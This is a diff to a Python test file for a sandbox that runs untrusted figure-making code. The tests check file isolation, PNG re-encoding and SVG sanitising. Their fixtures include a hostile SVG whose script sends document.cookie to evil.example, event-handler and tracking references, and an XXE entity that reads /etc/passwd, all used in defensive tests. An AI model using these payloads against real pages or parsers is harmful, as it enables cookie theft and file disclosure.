@@ -4,23 +4,28 @@ Every test checks afterwards that nothing of the run is still alive: no process 
 dedicated uid and no launcher whose command line names it.
 """
 
+import hashlib
 import json
 import os
 import signal
 import struct
 import tempfile
+import zlib
 from pathlib import Path
 
 import pytest
 
 import notecards
+from notecards.sim.untrusted_figures import clean_png, clean_svg
 from notecards.sim.sandbox import (
     CHILD_SCRIPT, SANDBOX_UIDS, SandboxResult, interpreter_folders, processes_of_uid, run_python_sim,
 )
 
 pytestmark = pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs Linux /proc")
 
+EMPTY_SVG = '<svg xmlns="http://www.w3.org/2000/svg"/>'
 FS_READ_ONLY = "filesystem read-only outside the working folder"
+FS_VIEW = "filesystem view holds only the interpreter, its packages, system libraries and the working folder"
 
 
 def leftovers(result: SandboxResult) -> list[int]:
@@ -37,6 +42,15 @@ def leftovers(result: SandboxResult) -> list[int]:
         if str(CHILD_SCRIPT) in cmdline and (result.sandbox_uid is None or marker in cmdline):
             alive.append(int(entry.name))
     return alive
+
+
+def png_of(width: int, height: int, rgb: bytes) -> bytes:
+    """A PNG file of these RGB pixels, written by hand (no imaging library in the test)."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    rows = b"".join(b"\x00" + rgb[y * width * 3:(y + 1) * width * 3] for y in range(height))
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
 
 
 def png_size(data: bytes) -> tuple[int, int]:
@@ -162,7 +176,8 @@ def test_writes_outside_the_working_folder_fail_and_leave_the_vault_unchanged(va
         code = f"open({str(target)!r}, 'w').write('overwritten by the sandbox')\n"
         result = run_python_sim(code, timeout=30)
         assert result.error is not None and result.error.startswith("exited with status 1:"), name
-        assert ("Read-only file system" in result.error) or ("Permission denied" in result.error), name
+        assert any(reason in result.error for reason in
+                   ("Read-only file system", "Permission denied", "No such file or directory")), name
         assert result.files == {}
         assert leftovers(result) == []
     assert (vault / "note.md").read_bytes() == before
@@ -204,10 +219,13 @@ def test_output_over_the_byte_limit_is_refused():
 
 
 def test_output_budget_is_shared_by_all_figures():
-    code = "for name in 'abc':\n    open(name + '.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(392))\n"
-    result = run_python_sim(code, timeout=30, max_output_bytes=1000)
+    noise = b"".join(hashlib.sha256(bytes([i])).digest() for i in range(96)) * 4  # 64 x 64 RGB, incompressible
+    size = len(clean_png(png_of(64, 64, noise)))  # what each figure weighs once re-encoded
+    code = (f"png = {png_of(64, 64, noise)!r}\n"
+            "for name in 'abc':\n    open(name + '.png', 'wb').write(png)\n")
+    result = run_python_sim(code, timeout=30, max_output_bytes=size * 5 // 2)
     assert sorted(result.files) == ["a.png", "b.png"]
-    assert result.error == "figures exceed the 1000-byte output limit (c.png not taken)"
+    assert result.error == f"figures exceed the {size * 5 // 2}-byte output limit (c.png not taken)"
 
 
 def test_no_network_where_a_network_namespace_is_available():
@@ -248,7 +266,7 @@ def test_a_daemon_that_ignores_sigterm_does_not_outlive_the_run():
     after sleeping 2 s, which a loaded machine could reach before the kill."""
     code = (
         "import os, signal, time\n"
-        "open('out.svg', 'w').write('<svg/>')\n"
+        f"open('out.svg', 'w').write({EMPTY_SVG!r})\n"
         "if os.fork() == 0:\n"
         "    os.setsid()\n"
         "    if os.fork() == 0:\n"
@@ -258,7 +276,7 @@ def test_a_daemon_that_ignores_sigterm_does_not_outlive_the_run():
     )
     result = run_python_sim(code, timeout=20)
     assert result.error is None, result.stderr_tail
-    assert result.files == {"out.svg": b"<svg/>"}
+    assert result.files == {"out.svg": clean_svg(EMPTY_SVG.encode())}
     assert leftovers(result) == []
 
 
@@ -274,10 +292,10 @@ def test_filling_the_working_folder_is_stopped(size):
 
 def test_a_symlinked_folder_of_figures_is_not_followed(vault):
     (vault / "figure.png").write_bytes(b"\x89PNG\r\n\x1a\n")
-    code = f"import os\nos.symlink({str(vault)!r}, 'figs')\nopen('own.svg', 'w').write('<svg/>')\n"
+    code = f"import os\nos.symlink({str(vault)!r}, 'figs')\nopen('own.svg', 'w').write({EMPTY_SVG!r})\n"
     result = run_python_sim(code, timeout=30)
     assert result.error is None, result.stderr_tail       # the block ran, and only its own file came back
-    assert result.files == {"own.svg": b"<svg/>"}
+    assert result.files == {"own.svg": clean_svg(EMPTY_SVG.encode())}
     (vault / "figure.png").unlink()
 
 
@@ -317,3 +335,82 @@ def test_a_private_home_shows_nothing_but_the_interpreter():
     interpreter = {Path(p).relative_to(Path.home()).parts[0] for p in interpreter_folders()
                    if Path(p).is_relative_to(Path.home())}
     assert seen <= interpreter
+
+
+
+def read_attempt(path: Path) -> str:
+    return (f"try:\n    print('READ', len(open({str(path)!r}, 'rb').read()))\n"
+            f"except OSError as exc:\n    print('REFUSED', exc.errno)\n")
+
+
+def test_the_code_cannot_read_the_machines_files_nor_the_vaults_other_notes(vault):
+    """World-readable files outside (passwd-like, the vault's other notes) are not in its view."""
+    outside = Path(tempfile.mkdtemp(prefix="notecards-test-world-"))
+    outside.chmod(0o755)
+    secret = outside / "passwd"
+    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
+    secret.chmod(0o644)
+    try:
+        code = "".join(read_attempt(p) for p in (secret, vault / "note.md", Path("/etc/hostname")))
+        result = run_python_sim(code + "import numpy, matplotlib.pyplot\n", timeout=60)
+        if "mount namespace" not in result.isolation:
+            pytest.skip(f"no mount namespace here, reads are bounded by permissions: {result.isolation}")
+        assert FS_VIEW in result.isolation
+        assert result.error is None, result.stderr_tail
+        assert result.stderr_tail.split() == ["REFUSED", "2"] * 3
+    finally:
+        secret.unlink()
+        outside.rmdir()
+
+
+PNG_WITH_TEXT = (
+    "import zlib, struct\n"
+    "def chunk(kind, data):\n"
+    "    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))\n"
+    "ihdr = struct.pack('>IIBBBBB', 2, 2, 8, 2, 0, 0, 0)\n"
+    "pixels = zlib.compress(b'\\x00' + bytes(6) + b'\\x00' + bytes(6))\n"
+    "png = (b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', ihdr) + chunk(b'tEXt', b'Comment\\x00SMUGGLED-SECRET')\n"
+    "       + chunk(b'IDAT', pixels) + chunk(b'IEND', b'') + b'SMUGGLED-TAIL')\n"
+    "open('figure.png', 'wb').write(png)\n"
+    "open('fake.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\nSMUGGLED raw text behind the magic')\n"
+)
+
+
+def test_a_png_is_re_encoded_without_its_text_chunks_and_raw_text_behind_its_magic_is_refused():
+    result = run_python_sim(PNG_WITH_TEXT, timeout=30)
+    assert sorted(result.files) == ["figure.png"]
+    assert b"SMUGGLED" not in result.files["figure.png"]
+    assert png_size(result.files["figure.png"]) == (2, 2)
+    assert result.error == "fake.png is not a valid PNG file"
+
+
+HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
+<script>fetch('https://evil.example/?'+document.cookie)</script>
+<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
+<style>@import url(https://evil.example/a.css); rect {{ fill: url(https://evil.example/p) }}</style>
+<a href="https://evil.example/"><text>click</text></a>
+<image href="https://evil.example/track.png" width="1" height="1"/>
+<use xlink:href="https://evil.example/sprite.svg#x"/>
+<rect id="r" width="10" height="10" onclick="steal()" style="fill:url(https://evil.example/f)"/>
+<circle r="3" fill="url(#r)" clip-path="url(#r)"/>
+<metadata>SMUGGLED</metadata>
+</svg>"""
+
+
+def test_an_svg_loses_scripts_event_attributes_and_external_references_but_keeps_its_drawing():
+    result = run_python_sim(f"open('figure.svg', 'w').write({HOSTILE_SVG!r})\n", timeout=30)
+    assert result.error is None, result.stderr_tail
+    svg = result.files["figure.svg"].decode()
+    for banned in ("script", "foreignObject", "iframe", "onload", "onclick", "evil.example", "@import",
+                   "SMUGGLED", "<a "):
+        assert banned not in svg, banned
+    assert '<rect id="r" width="10" height="10"' in svg
+    assert 'fill="url(#r)"' in svg and 'clip-path="url(#r)"' in svg
+
+
+def test_an_svg_with_entities_is_refused():
+    svg = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+           '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')
+    result = run_python_sim(f"open('figure.svg', 'w').write({svg!r})\n", timeout=30)
+    assert result.files == {}
+    assert result.error == "figure.svg is not a valid SVG file"
